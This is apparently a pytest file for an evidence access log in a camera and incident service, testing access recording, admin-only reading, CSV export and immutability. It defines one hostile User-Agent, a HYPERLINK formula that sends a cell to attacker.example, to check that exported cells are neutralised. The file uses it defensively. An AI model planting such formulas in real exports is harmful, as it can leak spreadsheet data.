"""The evidence access log (issue 13, "also build"): every view or download of a snapshot, clip,
photo or live picture, and every worker's read of camera credentials, is recorded with who,
when, what and from where; administrators list and export it; nobody changes it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from fastapi.testclient import TestClient

from tests.api.helpers import WORKER
from tests.api.test_evidence import report_with_clip
from tests.api.test_live_view import CAMERA, put_picture, report_health
from tests.conftest import Accounts
from tests.factories import jpeg

LOG = "/api/v1/evidence-access"
# A User-Agent a spreadsheet would run as a formula, were the CSV cell not neutralised.
HOSTILE_AGENT = '=HYPERLINK("http://attacker.example/"&A1,"open")'


def _log(client: TestClient, accounts: Accounts, **params: Any) -> list[dict[str, Any]]:
    answer = client.get(LOG, params=params, headers=accounts.headers("admin"))
    assert answer.status_code == 200, answer.text
    items: list[dict[str, Any]] = answer.json()["items"]
    return items


def test_every_evidence_access_is_recorded_and_only_admins_read_the_log(
    api_client: TestClient, accounts: Accounts
) -> None:
    started = datetime.now(UTC) - timedelta(seconds=1)
    event = report_with_clip(api_client)
    incident = event["incident"]["id"]  # type: ignore[index]
    operator = {**accounts.headers("west_operator"), "User-Agent": HOSTILE_AGENT}
    photo = api_client.post(
        f"/api/v1/events/{event['id']}/actions/comment",
        headers=accounts.headers("school_worker"),
        data={"note": "seen from the gate"},
        files=[("photos", ("p.jpg", jpeg(shade=200), "image/jpeg"))],
    )
    assert photo.status_code == 200, photo.text
    attachment = photo.json()["attachments"][0]["id"]
    assert _log(api_client, accounts) == []  # reporting and attaching read nothing back

    for path in (
        f"/api/v1/incidents/{incident}/snapshot.jpg",
        f"/api/v1/incidents/{incident}/clip.mp4",
        f"/api/v1/events/{event['id']}/attachments/{attachment}",
    ):
        assert api_client.get(path, headers=operator).status_code == 200, path
    # Live view: the picture the worker sends while someone watches.
    assert api_client.post(f"/api/v1/cameras/{CAMERA}/live-view", headers=operator).is_success
    report_health(api_client)
    assert put_picture(api_client, jpeg(shade=90)).status_code == 200
    assert api_client.get(f"/api/v1/cameras/{CAMERA}/live.jpg", headers=operator).is_success
    # A worker reads every camera's address with its credentials; a 304 sends none again.
    feed = api_client.get("/api/v1/worker/cameras", headers=WORKER)
    assert feed.status_code == 200
    cameras = [camera["id"] for camera in feed.json()["cameras"]]
    unchanged = api_client.get(
        "/api/v1/worker/cameras", headers={**WORKER, "If-None-Match": feed.headers["ETag"]}
    )
    assert unchanged.status_code == 304
    leased = api_client.post("/api/v1/worker/leases", json={"capacity": 2}, headers=WORKER)
    assert leased.status_code == 200, leased.text
    cameras += [camera["id"] for camera in leased.json()["cameras"]]
    assert len(cameras) > len(feed.json()["cameras"])
    # Out of scope: refused and not recorded as a view.
    east = accounts.headers("east_operator")
    assert api_client.get(f"/api/v1/incidents/{incident}/clip.mp4", headers=east).status_code == 404

    entries = _log(api_client, accounts, limit=1000)
    views = [entry for entry in entries if entry["role"] == "operator"]
    assert [(entry["object_kind"], entry["action"]) for entry in reversed(views)] == [
        ("snapshot", "view"),
        ("clip", "download"),
        ("photo", "view"),
        ("live_picture", "view"),
    ]
    for entry in views:
        assert entry["actor"] == "user:west_operator"
        assert entry["user_id"] == accounts.user_id("west_operator")
        assert entry["client_address"] == "testclient" and entry["user_agent"] == HOSTILE_AGENT
        assert entry["camera_id"] == CAMERA
        assert started <= datetime.fromisoformat(entry["at"]) <= datetime.now(UTC)
    assert views[-1]["object_id"] == incident and views[-1]["grid_event_id"] == event["id"]
    assert views[1]["object_id"] == str(attachment)
    reads = [entry for entry in entries if entry["action"] == "credentials"]
    assert sorted(entry["camera_id"] for entry in reads) == sorted(cameras)
    assert {entry["actor"] for entry in reads} == {"worker:edge-1"}
    assert {entry["object_kind"] for entry in reads} == {"camera_credentials"}
    # Filters, and the count of all that match.
    clips = api_client.get(
        LOG, params={"object_kind": "clip"}, headers=accounts.headers("admin")
    ).json()
    assert clips["total"] == 1 and clips["items"][0]["object_id"] == incident

    for user in ("west_operator", "district_operator", "school_owner", "education_handler"):
        assert api_client.get(LOG, headers=accounts.headers(user)).status_code == 403
        assert api_client.get(f"{LOG}.csv", headers=accounts.headers(user)).status_code == 403
    assert api_client.get(LOG, headers=WORKER).status_code == 403


def test_the_log_exports_as_csv_with_neutralised_cells(
    api_client: TestClient, accounts: Accounts
) -> None:
    event = report_with_clip(api_client)
    incident = event["incident"]["id"]  # type: ignore[index]
    operator = {**accounts.headers("west_operator"), "User-Agent": HOSTILE_AGENT}
    assert api_client.get(f"/api/v1/incidents/{incident}/snapshot.jpg", headers=operator).is_success
    exported = api_client.get(f"{LOG}.csv", headers=accounts.headers("admin"))
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    assert "attachment" in exported.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == 1
    assert rows[0]["actor"] == "user:west_operator" and rows[0]["object_id"] == incident
    assert rows[0]["user_agent"] == "'" + HOSTILE_AGENT


def test_nobody_changes_or_removes_an_entry_through_the_api(
    api_client: TestClient, accounts: Accounts
) -> None:
    event = report_with_clip(api_client)
    incident = event["incident"]["id"]  # type: ignore[index]
    admin = accounts.headers("admin")
    assert api_client.get(f"/api/v1/incidents/{incident}/snapshot.jpg", headers=admin).is_success
    (entry,) = _log(api_client, accounts)
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        for path in (LOG, f"{LOG}/{entry['id']}", f"{LOG}.csv"):
            answer = api_client.request(method, path, json={"actor": "nobody"}, headers=admin)
            assert answer.status_code in (404, 405), (method, path, answer.status_code)
    # No route of the API writes under the log's path.
    app = api_client.app
    writes = [
        path
        for path, methods in _routes(app)  # type: ignore[arg-type]
        if path.startswith(LOG) and methods & {"POST", "PUT", "PATCH", "DELETE"}
    ]
    assert writes == []
    assert _log(api_client, accounts) == [entry]


def _routes(app: Any) -> list[tuple[str, set[str]]]:
    found: list[tuple[str, set[str]]] = []
    pending = list(app.routes)
    while pending:
        route = pending.pop()
        nested = getattr(route, "original_router", None)
        if nested is not None:
            pending.extend(nested.routes)
        elif hasattr(route, "methods"):
            found.append((route.path, set(route.methods or ())))
    assert any(path == LOG for path, _ in found)
    return found
